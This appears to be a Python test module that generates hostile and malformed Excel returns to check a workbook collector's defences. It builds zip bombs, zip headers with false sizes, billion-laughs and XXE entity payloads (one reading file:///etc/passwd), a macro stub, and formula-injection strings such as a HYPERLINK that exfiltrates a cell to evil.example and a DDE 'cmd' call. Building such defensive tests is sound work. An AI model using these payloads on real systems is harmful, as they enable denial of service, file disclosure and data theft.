"""A corpus of hostile and messy returns, built at test time from a real generated and filled workbook.

Each `case_*` function makes one file (its bytes, the outcome the collector must give it, and for accepted returns
the ratings it must read back). `build_corpus(folder)` writes them all and returns {file name: outcome}, where an
outcome is ("accepted" | "rejected", code or None):

- ("rejected", code): the file is rejected and the parser's fatal problem has that code;
- ("accepted", None): accepted with no problem at all;
- ("accepted", code): accepted, and among its problems is one with that code (a warning or an error).

Files inside a .zip of returns are named "archive.zip!member" as the collector's log names them. Cases that need
LibreOffice (or msoffcrypto-tool, to encrypt) are left out when it is not installed.
"""

from __future__ import annotations

import copy
import functools
import io
import random
import re
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime
from pathlib import Path

from maturity_xl.batch import Template
from maturity_xl.generate import Service
from maturity_xl.layout import ASSESSMENT, METADATA, START, Layout, cell
from maturity_xl.model import Framework
from maturity_xl.reading import open_workbook
from maturity_xl.sign import signature
from maturity_xl.simulate import Filled, filled_workbook, patch_cells, random_answers
from maturity_xl.spec import load_framework

FRAMEWORK = "coventry-warwickshire"  # always bundled; the other frameworks may be missing while being written
KEY = b"hostile-corpus-signing-key-0123456789"
PASSWORD = "Agreed-Passw0rd!"
PINNED = datetime(2026, 11, 22, 9, 30, tzinfo=UTC)
BOMB_BYTES = 300 * 1024 * 1024  # what the zip bomb's part inflates to
HUGE_STRINGS_BYTES = 30 * 1024 * 1024  # the honest, huge shared-strings part
MANY_SHEETS = 5_000

Outcome = tuple[str, str | None]
ACCEPTED, REJECTED = "accepted", "rejected"

# Text a service might type (or an attacker might plant) that a report must keep inert.
DANGEROUS_TEXT = (
    "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click for details\")",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
    "https://evil.example/login",
    "mailto:attacker@evil.example",
    "file:///etc/passwd",
    "<script>alert('x')</script> and <img src=x onerror=alert(1)>",
)


@dataclass(frozen=True)
class Case:
    """One file of the corpus."""

    name: str
    data: bytes
    outcome: Outcome
    ratings: dict[str, int | None] | None = None  # what an accepted return must read back
    signed: bool = False  # check with KEY (collect(..., key=KEY))
    respondent: dict[str, object] | None = None  # respondent details an accepted return must read back
    note: str = ""  # what the file is, for the docs table
    members: dict[str, tuple[Outcome, dict | None]] = field(default_factory=dict)  # for a .zip of returns


# The base: one framework, its template, and a filled return per service.


@dataclass(frozen=True)
class Base:
    framework: Framework
    template: Template

    def service(self, tag: str) -> Service:
        return Service(f"HX-{tag}", f"Hostile case {tag}")

    def blank(self, tag: str, *, signed: bool = False) -> bytes:
        fw, service = self.framework, self.service(tag)
        stamp = signature(KEY, service.id, fw.id, fw.version, fw.fingerprint) if signed else ""
        return self.template.personalise(service, stamp)

    def answers(self, tag: str, **changes) -> Filled:
        seed = sum(tag.encode()) * 7919 + len(tag)
        filled = random_answers(self.framework, random.Random(seed), completion=0.9, completed_on=date(2026, 11, 2))
        return replace(filled, **changes) if changes else filled

    def filled(self, tag: str, *, signed: bool = False, answers: Filled | None = None) -> tuple[bytes, Filled]:
        answers = answers or self.answers(tag)
        return filled_workbook(self.framework, self.blank(tag, signed=signed), answers), answers

    @property
    def layout(self) -> Layout:
        return Layout(self.framework)


@functools.lru_cache(maxsize=1)
def base() -> Base:
    fw = load_framework(FRAMEWORK)
    return Base(fw, Template(fw, generated_at=PINNED))


def good_returns(folder: Path, count: int = 8, prefix: str = "G") -> dict[str, dict[str, int | None]]:
    """Well-behaved returns from `count` services; {service id: ratings}."""
    b = base()
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for i in range(count):
        tag = f"{prefix}{i:03d}"
        data, answers = b.filled(tag)
        (folder / f"return-{tag}.xlsx").write_bytes(data)
        out[b.service(tag).id] = answers.ratings
    return out


# Zip plumbing


def parts(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(info.filename, zf.read(info)) for info in zf.infolist()]


def rezip(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in members:
            zf.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def edit_parts(data: bytes, edits: dict[str, Callable[[bytes], bytes | None]],
               add: list[tuple[str, bytes]] | None = None) -> bytes:
    """Rewrite parts of a package: each edit gets the part's bytes and returns new ones (None drops the part)."""
    out = []
    for name, content in parts(data):
        if name in edits:
            content = edits[name](content)
            if content is None:
                continue
        out.append((name, content))
    return rezip(out + list(add or []))


def sheet_part(data: bytes, sheet: str) -> str:
    wb = open_workbook(data)
    try:
        return wb.sheets[sheet].path
    finally:
        wb.close()


def shared_strings_part(data: bytes) -> str:
    return next(name for name, _ in parts(data) if name.lower().endswith("sharedstrings.xml"))


@dataclass
class RawMember:
    """A zip member written by hand, so its declared sizes and offsets can lie."""

    name: str
    compressed: bytes
    crc: int
    size: int  # the real uncompressed size
    declared_size: int | None = None
    method: int = zipfile.ZIP_DEFLATED


def raw_zip(members: list[RawMember], extra_central: list[tuple[str, int]] = ()) -> bytes:
    """A zip from raw members; `extra_central` adds central-directory entries (name, index of the member whose
    local header they point at) that share another member's bytes."""
    out = io.BytesIO()
    central, offsets = [], []
    for m in members:
        name = m.name.encode()
        declared = m.size if m.declared_size is None else m.declared_size
        offsets.append(out.tell())
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, m.method, 0, 0x5C21, m.crc, len(m.compressed),
                              declared, len(name), 0))
        out.write(name + m.compressed)
        central.append((name, m, declared, offsets[-1]))
    for alias, index in extra_central:
        m = members[index]
        declared = m.size if m.declared_size is None else m.declared_size
        central.append((alias.encode(), m, declared, offsets[index]))
    start = out.tell()
    for name, m, declared, offset in central:
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, m.method, 0, 0x5C21, m.crc,
                              len(m.compressed), declared, len(name), 0, 0, 0, 0, 0, offset) + name)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def deflated(content: bytes, level: int = 6) -> RawMember:
    comp = zlib.compressobj(level, zlib.DEFLATED, -15)
    return RawMember("", comp.compress(content) + comp.flush(), zlib.crc32(content), len(content))


def raw_members(data: bytes) -> list[RawMember]:
    out = []
    for name, content in parts(data):
        m = deflated(content)
        m.name = name
        out.append(m)
    return out


def deflated_zeros(total: int, prefix: bytes = b"") -> RawMember:
    """`total` bytes (a prefix then zeros) deflated at level 9 a megabyte at a time: never all in memory."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunks, crc = [comp.compress(prefix)], zlib.crc32(prefix)
    block = bytes(1 << 20)
    left = total - len(prefix)
    while left > 0:
        piece = block if left >= len(block) else block[:left]
        chunks.append(comp.compress(piece))
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    chunks.append(comp.flush())
    return RawMember("", b"".join(chunks), crc, total)


# Metadata and cell helpers


def metadata_ref(data: bytes, key: str) -> str:
    """The cell of the metadata sheet's [workbook] value for `key` (e.g. 'service_id' -> 'B10')."""
    wb = open_workbook(data)
    try:
        for (row, col), c in sorted(wb.cells(METADATA).items()):
            if col == 0 and c.value == key:
                return cell(row, 1)
    finally:
        wb.close()
    raise KeyError(key)


def with_metadata(data: bytes, **values: str) -> bytes:
    return patch_cells(data, {(METADATA, metadata_ref(data, k)): v for k, v in values.items()})


def openpyxl_edit(data: bytes, edit: Callable) -> bytes:
    import openpyxl

    wb = openpyxl.load_workbook(io.BytesIO(data))
    edit(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _libreoffice(data: bytes, fmt: str, name: str) -> bytes | None:
    """One LibreOffice conversion (one soffice call per format); None when LibreOffice is not installed."""
    from libreoffice import convert, soffice

    if soffice() is None:
        return None
    with tempfile.TemporaryDirectory(prefix="corpus-lo-") as tmp:
        source = Path(tmp) / f"{name}.xlsx"
        source.write_bytes(data)
        [out] = convert([source], fmt, Path(tmp) / "out", recalc=False)
        return out.read_bytes()


# Wrong formats, found by their bytes


def case_old_xls() -> Case | None:
    data = _libreoffice(base().filled("xls")[0], "xls", "old")
    return None if data is None else Case("old-format.xls", data, (REJECTED, "xls"),
                                          note="saved as Excel 97-2003 (.xls) by LibreOffice")


def case_ods() -> Case | None:
    data = _libreoffice(base().filled("ods")[0], "ods", "open")
    return None if data is None else Case("opendocument.ods", data, (REJECTED, "ods"),
                                          note="saved as OpenDocument (.ods) by LibreOffice")


def case_csv() -> Case:
    text = "Statement,Rating,Rationale\r\n1.1.1,3,We do this\r\n1.1.2,2,\"Some, not all\"\r\n"
    return Case("saved-as.csv", text.encode("utf-8-sig"), (REJECTED, "csv"), note="a sheet saved as CSV")


def case_xlsb() -> Case:
    types = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             b'content-types"><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.'
             b'macroEnabled.main"/><Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.'
             b'sheet.binary.macroEnabled.main"/></Types>')
    data = rezip([("[Content_Types].xml", types), ("_rels/.rels", _RELS_TO(b"xl/workbook.bin")),
                  ("xl/workbook.bin", b"\x83\x01\x00\x00" * 16)])
    return Case("binary.xlsb", data, (REJECTED, "xlsb"), note="an Excel Binary Workbook")


def case_numbers() -> Case:
    data = rezip([("Index/Document.iwa", b"\x00\x01binary-protobuf"), ("Index/Metadata.iwa", b"\x00"),
                  ("Metadata/Properties.plist", b"<?xml version='1.0'?><plist/>")])
    return Case("assessment.numbers", data, (REJECTED, "numbers"), note="an Apple Numbers file")


def case_html_as_xls() -> Case:
    page = (b'<!-- saved from url=(0014)about:internet -->\r\n<html xmlns:o="urn:schemas-microsoft-com:office:office" '
            b'xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta charset="utf-8"></head><body><table>'
            b'<tr><td>1.1.1</td><td>3</td></tr></table></body></html>')
    return Case("web-page.xls", page, (REJECTED, "html"), note="a web page saved with an .xls name")


def case_docx_as_xlsx() -> Case:
    types = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             b'content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
             b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/'
             b'document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
             b'main+xml"/></Types>')
    doc = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
           b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Our assessment</w:t></w:r></w:p></w:body>'
           b'</w:document>')
    data = rezip([("[Content_Types].xml", types), ("_rels/.rels", _RELS_TO(b"word/document.xml")),
                  ("word/document.xml", doc)])
    return Case("word-document.xlsx", data, (REJECTED, "docx"), note="a Word document renamed .xlsx")


def _RELS_TO(target: bytes) -> bytes:  # noqa: N802 - reads as the constant it makes
    return (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/officeDocument" Target="' + target + b'"/></Relationships>')


def case_xlsx_renamed_xls() -> Case:
    data, answers = base().filled("renamed")
    return Case("real-workbook-renamed.xls", data, (ACCEPTED, None), answers.ratings,
                note="a real .xlsx renamed .xls")


def case_xlsm() -> Case:
    data, answers = base().filled("xlsm")

    def types(content: bytes) -> bytes:
        content = content.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                  b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        return content.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                                            b'vbaProject"/></Types>')

    def rels(content: bytes) -> bytes:
        return content.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.'
                                                    b'com/office/2006/relationships/vbaProject" Target="vbaProject.'
                                                    b'bin"/></Relationships>')

    # An OLE header and a Workbook_Open macro name: enough to show it is never run, only carried.
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 + "Workbook_Open Shell(\"calc\")".encode("utf-16-le")
    data = edit_parts(data, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
                      add=[("xl/vbaProject.bin", vba)])
    return Case("macro-enabled.xlsm", data, (ACCEPTED, None), answers.ratings,
                note="macro-enabled (.xlsm) with a vbaProject.bin: read, macros never run")


STRICT_NAMESPACES = {
    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships":
        b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    b"http://schemas.openxmlformats.org/drawingml/2006/main": b"http://purl.oclc.org/ooxml/drawingml/main",
    b"http://schemas.openxmlformats.org/drawingml/2006/chart": b"http://purl.oclc.org/ooxml/drawingml/chart",
    b"http://schemas.openxmlformats.org/officeDocument/2006/extended-properties":
        b"http://purl.oclc.org/ooxml/officeDocument/extendedProperties",
    b"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties":
        b"http://purl.oclc.org/ooxml/officeDocument/customProperties",
}


def case_strict_xml() -> Case:
    """Strict Open XML: the same parts under purl.oclc.org namespaces. reader.py finds elements by local name and
    relationships by their last path segment, so a Strict return is read like any other: accepted, same data."""
    data, answers = base().filled("strict")

    def strict(content: bytes) -> bytes:
        for old, new in STRICT_NAMESPACES.items():
            content = content.replace(old, new)
        return content

    names = [name for name, _ in parts(data) if name.endswith((".xml", ".rels"))]
    data = edit_parts(data, {name: strict for name in names})
    return Case("strict-open-xml.xlsx", data, (ACCEPTED, None), answers.ratings,
                note="Strict Open XML (purl.oclc.org namespaces)")


def prefixed(data: bytes) -> bytes:
    """Every worksheet's elements written with an `x:` prefix bound to the main namespace, as the Open XML SDK
    writes them."""
    def prefix(content: bytes) -> bytes:
        content = re.sub(rb"<(/?)(?![?!])([A-Za-z])", rb"<\1x:\2", content)
        return content.replace(b"xmlns=", b"xmlns:x=", 1)

    return edit_parts(data, {name: prefix for name, _ in parts(data) if name.startswith("xl/worksheets/sheet")})


def case_namespace_prefixed() -> Case:
    """Worksheets written with a namespace prefix (<x:c r="C5">): valid, and Excel reads them. The fast index
    cannot take them apart, so expat reads them (it once indexed them as empty: the metadata unreadable)."""
    data, answers = base().filled("prefixed")
    return Case("namespace-prefixed.xlsx", prefixed(data), (ACCEPTED, None), answers.ratings,
                note="worksheet elements with a namespace prefix (x:c), as the Open XML SDK writes")


def encrypted(data: bytes, password: str = PASSWORD) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


def case_password() -> Case | None:
    try:
        import msoffcrypto  # noqa: F401 - only to know whether the case can be made
    except ImportError:
        return None
    data, answers = base().filled("password")
    return Case("password-to-open.xlsx", encrypted(data), (REJECTED, "encrypted"), answers.ratings,
                note="encrypted with a password to open (accepted when the agreed password is given)")


def case_empty() -> Case:
    return Case("empty.xlsx", b"", (REJECTED, "empty"), note="an empty file (0 bytes)")


def case_truncated() -> Case:
    data = base().filled("truncated")[0]
    return Case("half-copied.xlsx", data[: len(data) * 6 // 10], (REJECTED, "incomplete"),
                note="the first 60% of a real return (a copy that had not finished)")


def case_utf16_text() -> Case:
    text = "Statement\tRating\r\n1.1.1\t3\r\n"
    return Case("unicode-text.xls", b"\xff\xfe" + text.encode("utf-16-le"), (REJECTED, "text"),
                note="Excel's 'Unicode Text' (UTF-16, tab-separated) saved with an .xls name")


def case_pdf() -> Case:
    return Case("printed.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n%%EOF\n", (REJECTED, "pdf"),
                note="a PDF print of the workbook")


def case_utf16_parts() -> Case:
    """XML parts in UTF-16 (legal XML, though Excel writes UTF-8): read as the same workbook."""
    data, answers = base().filled("utf16")
    targets = [sheet_part(data, ASSESSMENT), sheet_part(data, START), shared_strings_part(data)]

    def utf16(content: bytes) -> bytes:
        text = content.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
        return text.encode("utf-16")

    return Case("utf16-parts.xlsx", edit_parts(data, dict.fromkeys(targets, utf16)), (ACCEPTED, None),
                answers.ratings, respondent=answers.respondent, note="sheets and shared strings in UTF-16")


def case_iso_date_cells() -> Case:
    """Dates stored as ISO 8601 text cells (t="d"), as Strict files and some libraries write them."""
    b = base()
    data, answers = b.filled("iso-dates")
    field = next(f for f in b.layout.respondent if f.key == "date_completed")
    ref = cell(field.row, 1).encode()
    done = answers.respondent["date_completed"]

    def iso(content: bytes) -> bytes:
        return re.sub(rb'<c r="' + ref + rb'"( s="[0-9]+")?><v>[0-9.]+</v></c>',
                      rb'<c r="' + ref + rb'"\1 t="d"><v>' + done.isoformat().encode() + rb"T00:00:00</v></c>",
                      content, count=1)

    data = edit_parts(data, {sheet_part(data, START): iso})
    return Case("iso-date-cells.xlsx", data, (ACCEPTED, None), answers.ratings, respondent=answers.respondent,
                note="the completion date stored as an ISO 8601 date cell (t=\"d\")")


def case_excel_escapes() -> Case:
    """Excel's _xHHHH_ escapes: a carriage return, an emoji as a surrogate pair, and half a pair on its own."""
    b = base()
    answers = b.answers("escapes")
    answers = replace(answers, respondent={**answers.respondent, "completed_by": "A. Patel_x000D_\nJ. Smith",
                                           "role": "Lead _xD83D__xDE00_ and _xD800_ half"})
    data, _ = b.filled("escapes", answers=answers)
    expected = {**answers.respondent, "completed_by": "A. Patel\r\nJ. Smith", "role": "Lead \U0001F600 and \ufffd half"}
    return Case("excel-escapes.xlsx", data, (ACCEPTED, None), answers.ratings, respondent=expected,
                note="text with Excel's _xHHHH_ escapes, including a lone surrogate")


# Attacks


def _bomb_package(sheet: RawMember, tag: str) -> bytes:
    """A real return (of service `tag`) whose Assessment sheet part is replaced by `sheet`."""
    data = base().filled(tag)[0]
    target = sheet_part(data, ASSESSMENT)
    members = raw_members(data)
    for i, m in enumerate(members):
        if m.name == target:
            sheet.name = target
            members[i] = sheet
    return raw_zip(members)


_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.'
               b'openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')


@functools.lru_cache(maxsize=1)
def _zeros_bomb() -> RawMember:
    return deflated_zeros(BOMB_BYTES, _SHEET_HEAD)


def case_zip_bomb() -> Case:
    data = _bomb_package(copy.copy(_zeros_bomb()), "bomb")
    return Case("zip-bomb.xlsx", data, (REJECTED, "zip-bomb"),
                note=f"a {len(data) // 1024} KB workbook whose sheet inflates to {BOMB_BYTES >> 20} MB")


def case_size_declared_smaller() -> Case:
    bomb = copy.copy(_zeros_bomb())
    bomb.declared_size = 1024 * 1024  # passes the size checks; the real stream is 300 MB
    return Case("size-declared-smaller.xlsx", _bomb_package(bomb, "smaller"), (REJECTED, "size-mismatch"),
                note="a part declares 1 MB but inflates to 300 MB (the reader stops one byte past 1 MB)")


def case_size_declared_larger() -> Case:
    data, _ = base().filled("larger")
    target = sheet_part(data, ASSESSMENT)
    members = raw_members(data)
    for m in members:
        if m.name == target:
            m.declared_size = m.size * 3
    return Case("size-declared-larger.xlsx", raw_zip(members), (REJECTED, "size-mismatch"),
                note="a part declares three times its real size")


def case_overlapping_members() -> Case:
    data, _ = base().filled("overlap")
    target = sheet_part(data, ASSESSMENT)
    members = raw_members(data)
    index = next(i for i, m in enumerate(members) if m.name == target)
    return Case("overlapping-parts.xlsx", raw_zip(members, [("xl/worksheets/sheet99.xml", index)]),
                (REJECTED, "overlapping-parts"), note="two central-directory entries at the same offset")


def case_duplicate_members() -> Case:
    data, _ = base().filled("duplicate")
    target = sheet_part(data, METADATA)
    forged = with_metadata(data, service_id="FORGED-001")
    extra = dict(parts(forged))[target]
    members = raw_members(data)
    m = deflated(extra)
    m.name = target
    return Case("duplicate-part-names.xlsx", raw_zip(members + [m]), (REJECTED, "duplicate-parts"),
                note="two parts with the same name (a second, forged metadata sheet)")


def case_encrypted_members() -> Case:
    data, _ = base().filled("zipcrypto")
    raw = bytearray(raw_zip(raw_members(data)))
    # Set the "encrypted" flag on every entry, as a zip tool with a password would.
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for m in re.finditer(re.escape(sig), bytes(raw)):
            raw[m.start() + flag_at] |= 1
    return Case("zip-password.xlsx", bytes(raw), (REJECTED, "encrypted-parts"),
                note="the zip's parts are encrypted (a zip tool's password)")


def _in_sheet(tag: str, sheet: str, edit: Callable[[bytes], bytes]) -> bytes:
    data = base().filled(tag)[0]
    return edit_parts(data, {sheet_part(data, sheet): edit})


BILLION_LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                             for i in range(1, 10)) + b"]>")


def _with_prolog(content: bytes, dtd: bytes, padding: int = 0) -> bytes:
    head, sep, rest = content.partition(b"?>")
    return head + sep + b"\n<!--" + b" " * padding + b"-->" + dtd + rest


def case_entity_bomb() -> Case:
    data = base().filled("laughs")[0]
    strings = shared_strings_part(data)

    def bomb(content: bytes) -> bytes:
        content = _with_prolog(content, BILLION_LAUGHS)
        return content.replace(b"<t>", b"<t>&lol9;", 1)

    return Case("entity-bomb.xlsx", edit_parts(data, {strings: bomb}), (REJECTED, "xml-dtd"),
                note="billion laughs in the shared strings")


def case_entity_bomb_late() -> Case:
    def bomb(content: bytes) -> bytes:
        return _with_prolog(content, BILLION_LAUGHS, padding=20_000).replace(b"<v>", b"<v>&lol9;", 1)

    return Case("entity-bomb-late.xlsx", _in_sheet("laughs-late", ASSESSMENT, bomb), (REJECTED, "xml-dtd"),
                note="billion laughs in a sheet, its DTD after 20 KB of comment")


def case_xxe() -> Case:
    dtd = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

    def xxe(content: bytes) -> bytes:
        content = _with_prolog(content, dtd)
        return re.sub(rb'(<c r="F\d+"[^>]*?)(/>|>.*?</c>)', rb'\1 t="inlineStr"><is><t>&xxe;</t></is></c>',
                      content, count=3, flags=re.S)

    return Case("external-entity.xlsx", _in_sheet("xxe", ASSESSMENT, xxe), (REJECTED, "xml-dtd"),
                note="an external entity (XXE) naming file:///etc/passwd")


def case_huge_shared_strings() -> Case:
    """Tens of MB of extra shared strings, honestly declared: a big but real workbook, read in time."""
    data, answers = base().filled("huge-strings")
    strings = shared_strings_part(data)
    rng = random.Random(5)

    def grow(content: bytes) -> bytes:
        extra = []
        size = 0
        while size < HUGE_STRINGS_BYTES:
            text = rng.randbytes(120).hex().encode()
            piece = b"<si><t>" + text + b"</t></si>"
            extra.append(piece)
            size += len(piece)
        content = content.replace(b"</sst>", b"".join(extra) + b"</sst>")
        return re.sub(rb'(count|uniqueCount)="\d+"', b"", content, count=2)

    return Case("huge-shared-strings.xlsx", edit_parts(data, {strings: grow}), (ACCEPTED, None), answers.ratings,
                note=f"{HUGE_STRINGS_BYTES >> 20} MB of extra shared strings, sizes honest")


def case_many_sheets() -> Case:
    data = base().filled("sheets")[0]
    first = sheet_part(data, START)

    def workbook(content: bytes) -> bytes:
        sheets = b"".join(b'<sheet name="Sheet%d" sheetId="%d" r:id="rIdMany%d"/>' % (i, 100 + i, i)
                          for i in range(MANY_SHEETS))
        return content.replace(b"</sheets>", sheets + b"</sheets>")

    def rels(content: bytes) -> bytes:
        target = first.removeprefix("xl/").encode()
        extra = b"".join(b'<Relationship Id="rIdMany%d" Type="http://schemas.openxmlformats.org/officeDocument/'
                         b'2006/relationships/worksheet" Target="%s"/>' % (i, target) for i in range(MANY_SHEETS))
        return content.replace(b"</Relationships>", extra + b"</Relationships>")

    data = edit_parts(data, {"xl/workbook.xml": workbook, "xl/_rels/workbook.xml.rels": rels})
    return Case("thousands-of-sheets.xlsx", data, (REJECTED, "too-many-sheets"),
                note=f"workbook.xml lists {MANY_SHEETS:,} sheets")


def case_many_parts() -> Case:
    data = base().filled("parts")[0]
    extra = [(f"xl/media/image{i}.png", b"\x89PNG") for i in range(3_000)]
    return Case("thousands-of-parts.xlsx", edit_parts(data, {}, add=extra), (REJECTED, "too-many-parts"),
                note="3,000 extra parts in the zip")


def case_million_entry_directory() -> Case:
    """A zip64 central directory of 600,000 entries, all naming one tiny part (zipfile would build an object for
    each before any check could count them)."""
    m = deflated(b"x")
    out = io.BytesIO()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x5C21, m.crc, len(m.compressed), m.size, 1, 0))
    out.write(b"a" + m.compressed)
    start, count = out.tell(), 600_000
    entry = struct.Struct("<IHHHHHHIIIHHHHHII")
    out.write(b"".join(entry.pack(0x02014B50, 45, 45, 0, 8, 0, 0x5C21, m.crc, len(m.compressed), m.size, 8, 0, 0, 0,
                                  0, 0, 0) + b"p%07d" % i for i in range(count)))
    size, end64 = out.tell() - start, out.tell()
    out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, size, start))
    out.write(struct.pack("<IIQI", 0x07064B50, 0, end64, 1))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0))
    return Case("million-entry-directory.xlsx", out.getvalue(), (REJECTED, "too-many-parts"),
                note=f"a zip64 directory of {count:,} entries ({out.tell() >> 20} MB)")


def case_missing_part() -> Case:
    data = base().filled("missing-part")[0]
    target = sheet_part(data, ASSESSMENT)
    return Case("sheet-part-missing.xlsx", edit_parts(data, {target: lambda _c: None}), (REJECTED, "damaged"),
                note="the workbook lists the Assessment sheet but its part is not in the zip")


def case_invalid_utf8() -> Case:
    def bad(content: bytes) -> bytes:
        return re.sub(rb'(<c r="E\d+"[^>]*?)(/>|>.*?</c>)', b'\\1 t="inlineStr"><is><t>caf\xe9 \xff\xfe</t></is></c>',
                      content, count=2, flags=re.S)

    return Case("not-utf8.xlsx", _in_sheet("utf8", ASSESSMENT, bad), (REJECTED, "bad-xml"),
                note="a sheet with bytes that are not UTF-8")


def case_unclosed_cells() -> Case:
    """Thousands of cells that never close, in a sheet whose rows were moved (so it is read whole): a scan that
    searched ahead from each unclosed cell for its end would take hours."""
    b = base()
    data = b.filled("unclosed")[0]
    first, second = b.layout.statement_cells[:2]
    data = patch_cells(data, {(ASSESSMENT, cell(first.row, 0)): second.statement_id,
                              (ASSESSMENT, cell(second.row, 0)): first.statement_id})

    def unclosed(content: bytes) -> bytes:
        junk = b"".join(b'<c r="Z%d"><v>1' % i for i in range(1, 40_000))
        return content.replace(b"</sheetData>", b'<row r="900">' + junk + b"</row></sheetData>")

    return Case("unclosed-cells.xlsx", edit_parts(data, {sheet_part(data, ASSESSMENT): unclosed}),
                (REJECTED, "bad-xml"), note="40,000 cells that never close, in a sheet read whole")


def case_archive_of_returns() -> Case:
    """A .zip of returns as an email client saves them: a good one and a zip bomb inside."""
    good, answers = base().filled("in-archive")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("good-in-archive.xlsx", good)
        zf.writestr("bomb-in-archive.xlsx", _bomb_package(copy.copy(_zeros_bomb()), "bomb-in-archive"))
    return Case("returns-archive.zip", out.getvalue(), (ACCEPTED, None), note="a .zip of two returns",
                members={"good-in-archive.xlsx": ((ACCEPTED, None), answers.ratings),
                         "bomb-in-archive.xlsx": ((REJECTED, "zip-bomb"), None)})


def case_archive_bomb() -> Case:
    bomb = deflated_zeros(BOMB_BYTES)
    bomb.name = "returns/all.xlsx"
    return Case("archive-bomb.zip", raw_zip([bomb]), (REJECTED, "zip-bomb"),
                note=f"a .zip whose one member inflates to {BOMB_BYTES >> 20} MB")


def case_archive_size_liar() -> Case:
    """A .zip of returns whose one member declares 40 KB and inflates to 300 MB (collect.py reads members of an
    archive itself: see docs/hostile-returns.md for the bound that read needs)."""
    bomb = deflated_zeros(BOMB_BYTES)
    bomb.name = "my-return.xlsx"
    bomb.declared_size = 40_000
    return Case("archive-size-liar.zip", raw_zip([bomb]), (REJECTED, "damaged"),
                note="a .zip whose member declares 40 KB and inflates to 300 MB",
                members={"my-return.xlsx": ((REJECTED, "damaged"), None)})


# Tampering and drift


def case_metadata_removed() -> Case:
    def drop(content: bytes) -> bytes:
        return re.sub(rb'<sheet name="Metadata"[^>]*/>', b"", content)

    data = edit_parts(base().filled("no-meta")[0], {"xl/workbook.xml": drop})
    return Case("metadata-removed.xlsx", data, (REJECTED, "no-metadata"), note="the metadata sheet removed")


def case_fingerprint_edited() -> Case:
    data, answers = base().filled("fingerprint")
    return Case("fingerprint-edited.xlsx", with_metadata(data, fingerprint="0123456789abcdef"),
                (ACCEPTED, "fingerprint-mismatch"), answers.ratings, note="the metadata's spec fingerprint edited")


def _version_edited(name: str, version: str, what: str) -> Case:
    data, answers = base().filled(name)
    return Case(f"{name}.xlsx", with_metadata(data, framework_version=version), (ACCEPTED, "version-edited"),
                answers.ratings, note=f"the metadata's framework version edited to {what} (the fingerprint tells "
                                      f"the real one)")


